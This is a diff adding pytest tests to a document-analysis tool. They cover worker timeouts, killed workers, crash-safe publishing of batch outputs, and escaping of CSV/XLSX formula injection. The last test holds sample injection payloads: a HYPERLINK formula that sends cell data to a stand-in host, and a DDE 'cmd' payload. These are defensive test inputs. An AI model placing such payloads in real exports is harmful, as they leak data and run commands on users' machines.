@@ -241,3 +241,173 @@ def test_every_pdf_failure_is_an_error_object(tmp_path):
     (tmp_path / "截断.pdf").write_bytes(pdf_bytes(["一、存在的主要问题"])[:900])
     codes = [code_of(tmp_path / n) for n in ("密码.pdf", "数组.pdf", "截断.pdf")]
     assert codes == ["encrypted", "corrupt_pdf", "corrupt_pdf"]
+
+
+# --------------------------------------------------------------------------- 3, 5. time budget and dead workers
+
+def _runaway(x):
+    """A C-level loop no signal handler can interrupt: catastrophic regex backtracking."""
+    import re
+
+    return bool(re.fullmatch(r"(a+)+b", "a" * 64)) if x == "runaway" else x
+
+
+def _suicidal(x, marks: str):
+    """Kill the worker on "die" (always) and on "once" (only the first time)."""
+    import signal
+
+    with open(marks, "a") as fh:
+        fh.write(f"{x}\n")
+    if x == "die" or x == "once" and Path(marks).read_text().count("once") == 1:
+        os.kill(os.getpid(), signal.SIGKILL)
+    if x == "boom":
+        raise ValueError("a bug")
+    return x
+
+
+def _error_code(args, error):
+    return error["code"]
+
+
+def test_a_runaway_task_gets_timeout_and_the_others_go_on():
+    from analyzer.workers import WorkerPool, _noop
+
+    with WorkerPool(2, _noop, (), timeout=1.0, start_method="fork") as pool:
+        results = list(pool.map(_runaway, [(i,) for i in ("a", "runaway", "b", "c")], _error_code))
+    assert results == ["a", "timeout", "b", "c"]
+
+
+def test_a_task_that_kills_its_worker_twice_gets_worker_died(tmp_path):
+    from analyzer.workers import WorkerPool, _noop
+
+    marks = tmp_path / "marks"
+    calls = [(x, str(marks)) for x in ("a", "die", "once", "boom", "b", "c", "d")]
+    with WorkerPool(2, _noop, (), start_method="fork") as pool:
+        results = list(pool.map(_suicidal, calls, _error_code))
+    assert results == ["a", "worker_died", "once", "analysis_failed", "b", "c", "d"]
+    attempts = marks.read_text().split()
+    assert attempts.count("die") == 2 and attempts.count("once") == 2 and attempts.count("a") == 1
+
+
+def test_workers_exit_when_their_parent_is_killed(tmp_path):
+    script = tmp_path / "parent.py"
+    script.write_text(
+        "import os, signal, sys, time\n"
+        f"sys.path.insert(0, {str(ROOT)!r})\n"
+        "from analyzer.workers import WorkerPool, _noop\n"
+        "pool = WorkerPool(2, _noop, (), start_method='fork')\n"
+        "print(' '.join(str(w.process.pid) for w in pool.workers), flush=True)\n"
+        "if os.fork() == 0:  # a helper kills the parent while it waits on its busy workers\n"
+        "    time.sleep(1)\n"
+        "    os.kill(os.getppid(), signal.SIGKILL)\n"
+        "    os._exit(0)\n"
+        "list(pool.map(time.sleep, [(600,), (600,)], lambda a, e: e))\n", encoding="utf-8")
+    out = tmp_path / "pids"
+    with open(out, "w") as fh:
+        returncode = subprocess.run([sys.executable, str(script)], stdout=fh, timeout=120).returncode
+    assert returncode == -9
+    workers = [int(pid) for pid in out.read_text().split()]
+    assert len(workers) == 2
+    for pid in workers:
+        _wait_gone(pid)
+
+
+def _wait_gone(pid: int) -> None:
+    import time
+
+    for _ in range(300):
+        try:
+            os.kill(pid, 0)
+        except ProcessLookupError:
+            return
+        with open(f"/proc/{pid}/stat") as fh:  # a zombie waits only for init to reap it
+            if fh.read().rsplit(")", 1)[1].split()[0] == "Z":
+                return
+        time.sleep(0.1)
+    raise AssertionError(f"worker {pid} outlived its parent")
+
+
+# --------------------------------------------------------------------------- 6. batch outputs
+
+def _stage(out: Path, files: dict[str, str]) -> None:
+    staging = out / ".jingzi" / "staging"
+    for rel, text in files.items():
+        (staging / rel).parent.mkdir(parents=True, exist_ok=True)
+        (staging / rel).write_text(text, encoding="utf-8")
+
+
+def test_publishing_removes_only_what_jingzi_wrote(tmp_path):
+    from analyzer.batch import publish
+
+    out = tmp_path / "out"
+    (out / "reports").mkdir(parents=True)
+    (out / "reports" / "我的笔记.html").write_text("用户自己的笔记", encoding="utf-8")
+    (out / "notes.txt").write_text("用户文件", encoding="utf-8")
+    _stage(out, {"index.html": "run1", "results.csv": "run1", "reports/a.txt.html": "run1",
+                 "reports/b.txt.html": "run1"})
+    publish(out)
+    _stage(out, {"index.html": "run2", "results.csv": "run2", "reports/a.txt.html": "run2"})
+    publish(out)
+    assert sorted(p.relative_to(out).as_posix() for p in out.rglob("*") if ".jingzi" not in p.parts) == [
+        "index.html", "notes.txt", "reports", "reports/a.txt.html", "reports/我的笔记.html", "results.csv"]
+    assert {(out / f).read_text(encoding="utf-8") for f in ("index.html", "results.csv", "reports/a.txt.html")} \
+        == {"run2"}
+    assert not (out / ".jingzi" / "staging").exists()
+
+
+def test_a_publication_killed_half_way_never_mixes_runs_and_is_finished_next_time(tmp_path):
+    from analyzer import batch as batch_module
+
+    out = tmp_path / "out"
+    _stage(out, {"index.html": "run1", "results.jsonl": "run1", "reports/a.txt.html": "run1",
+                 "reports/b.txt.html": "run1"})
+    batch_module.publish(out)
+    _stage(out, {"index.html": "run2", "results.jsonl": "run2", "reports/c.txt.html": "run2"})
+    moved = []
+
+    def killed_after_one_move(src, dst):
+        if moved:
+            raise KeyboardInterrupt  # the run is killed here
+        moved.append(dst)
+        os.rename(src, dst)
+
+    with pytest.MonkeyPatch.context() as mp:
+        mp.setattr(batch_module.os, "replace", killed_after_one_move)
+        with pytest.raises(KeyboardInterrupt):
+            batch_module.publish(out)
+    # old tables are gone before any new page arrives: no index of run 1 beside a page of run 2
+    assert not (out / "index.html").exists() and not (out / "results.jsonl").exists()
+    batch_module.finish_publishing(out)
+    assert sorted(p.name for p in (out / "reports").iterdir()) == ["c.txt.html"]
+    assert (out / "index.html").read_text(encoding="utf-8") == "run2"
+    manifest = json.loads((out / ".jingzi" / "manifest.json").read_text(encoding="utf-8"))
+    assert sorted(manifest["files"]) == ["index.html", "reports/c.txt.html", "results.jsonl"]
+
+
+# --------------------------------------------------------------------------- 1. formula injection
+
+def test_every_text_cell_of_csv_and_xlsx_is_neutralised(tmp_path):
+    from openpyxl import load_workbook
+
+    from analyzer.batch import summarise, write_csv, write_xlsx
+
+    evil = '=HYPERLINK("http://evil.example/?q="&B2,"详情")'
+    rows = []
+    for name, file, source in ((evil, "/docs/" + evil, "+1+2"), ("-3+4.txt", "@SUM(A1)", "\tx"),
+                               ("\r=1.txt", "normal/path.txt", "＝1+1")):
+        d = {"name": name, "file": file, "chars": 100, "copy": {"ratio": 0.3, "sources": [
+            {"source": source, "ratio": 0.3}]}, "warnings": [{"code": "=cmd|' /C calc'!A0", "message": ""}]}
+        row = summarise(d)
+        row["page"] = "reports/x.html"
+        rows.append(row)
+    write_csv(rows, tmp_path / "r.csv")
+    write_xlsx(rows, tmp_path / "r.xlsx")
+    with open(tmp_path / "r.csv", encoding="utf-8-sig", newline="") as fh:
+        csv_cells = [c for row in csv.reader(fh) for c in row]
+    sheet = load_workbook(tmp_path / "r.xlsx").active
+    xlsx_cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert all(c.data_type != "f" for c in xlsx_cells)
+    for cells in (csv_cells, [c.value for c in xlsx_cells if isinstance(c.value, str)]):
+        assert not [c for c in cells if c and c[0] in "=+-@\t\r＝"]
+        assert "'" + evil in cells and "'@SUM(A1)" in cells and "'\tx" in cells and "'-3+4.txt" in cells
+    assert 0.3 in [c.value for c in xlsx_cells]  # numbers stay numbers
